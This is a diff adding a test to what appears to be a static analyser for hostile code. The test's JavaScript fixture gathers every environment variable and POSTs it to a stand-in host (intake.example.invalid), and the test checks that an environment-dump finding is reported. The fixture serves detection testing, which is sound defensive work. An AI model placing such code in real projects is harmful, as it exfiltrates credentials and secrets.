@@ -362,3 +362,16 @@ def test_a_response_piped_into_a_file_then_run_runs_the_download(tmp_path: Path)
         "});\n",
     )
     assert [line for line, _ in chain(found, Kind.EXEC_FETCHED)] == [2, 4]
+
+
+def test_a_helper_called_without_arguments_gives_what_it_gathers(tmp_path: Path) -> None:
+    source = (
+        "function gather() {\n"
+        "  const out = {};\n"
+        "  for (const [k, v] of Object.entries(process.env)) { out[k] = v; }\n"
+        "  return out;\n"
+        "}\n"
+        'fetch("https://intake.example.invalid/r", { method: "POST", body: JSON.stringify({ ctx: gather() }) });\n'
+    )
+    found = analyse_file(tmp_path, "scripts/report.mjs", source, Language.JAVASCRIPT)
+    assert Kind.ENV_DUMP in {c.kind for c in found}
